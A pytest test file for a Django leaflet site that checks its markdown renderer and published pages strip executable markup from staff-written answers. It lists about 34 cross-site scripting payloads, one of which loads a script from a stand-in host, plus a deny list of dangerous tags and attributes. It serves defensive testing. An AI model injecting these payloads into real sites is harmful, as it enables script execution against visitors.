"""Whatever staff type, or paste, into an answer must never run in a family's browser."""

import pytest
from bs4 import BeautifulSoup

from scr_site.leaflet.drafts.publishing import publish_item
from scr_site.leaflet.markdown import render
from scr_site.leaflet.models import Leaflet, Question

from .helpers import page

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](&#x6A;avascript&#x3A;alert(1))",
    '<a href="&#14;javascript:alert(1)">click</a>',
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '<a href="vbscript:msgbox(1)">click</a>',
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    "<details open ontoggle=alert(1)>",
    '<form action="javascript:alert(1)"><button>go</button></form>',
    "<object data=javascript:alert(1)></object>",
    '<embed src="javascript:alert(1)">',
    '<math><a href="javascript:alert(1)">x</a></math>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<base href=javascript:alert(1)//>",
    '<input autofocus onfocus="alert(1)">',
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '<a href="  javascript:alert(1)">x</a>',
]

DANGEROUS_TAGS = {
    "script",
    "iframe",
    "style",
    "svg",
    "object",
    "embed",
    "form",
    "input",
    "base",
    "meta",
    "math",
    "img",
}


def assert_harmless(soup):
    for element in soup.find_all(True):
        assert element.name not in DANGEROUS_TAGS, element
        for attribute, value in element.attrs.items():
            assert not attribute.lower().startswith("on"), element
            assert attribute.lower() not in {"style", "srcdoc", "formaction"}, element
            if attribute.lower() in {"href", "src", "action", "data"}:
                scheme = str(value).strip().lower()
                assert not scheme.startswith(("javascript:", "data:", "vbscript:")), element


@pytest.mark.parametrize("payload", PAYLOADS)
def test_rendering_never_keeps_executable_markup(payload):
    assert_harmless(BeautifulSoup(render(payload), "html.parser"))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_saved_in_an_answer_is_harmless_on_the_page(client, leaflet_content, payload):
    question = Question.objects.first()
    question.answer = f"Before {payload} after"
    question.save()
    leaflet = Leaflet.objects.get()
    leaflet.introduction = payload
    leaflet.save()
    publish_item(leaflet, user=None)

    soup = page(client.get("/"))
    assert "Before" in soup.select_one("main").get_text()  # the saved answer is the one shown
    assert_harmless(soup.select_one("main"))
    assert "alert(1)" not in str(soup.select_one("main").find_all(href=True))


def test_there_are_at_least_twenty_payloads():
    assert len(PAYLOADS) >= 20


def test_ordinary_formatting_survives():
    html = render("Some **bold** text with [a link](https://www.gov.uk) and a list:\n\n- one\n- two")
    assert "<strong>bold</strong>" in html
    assert '<a href="https://www.gov.uk">a link</a>' in html
    assert "<li>one</li>" in html
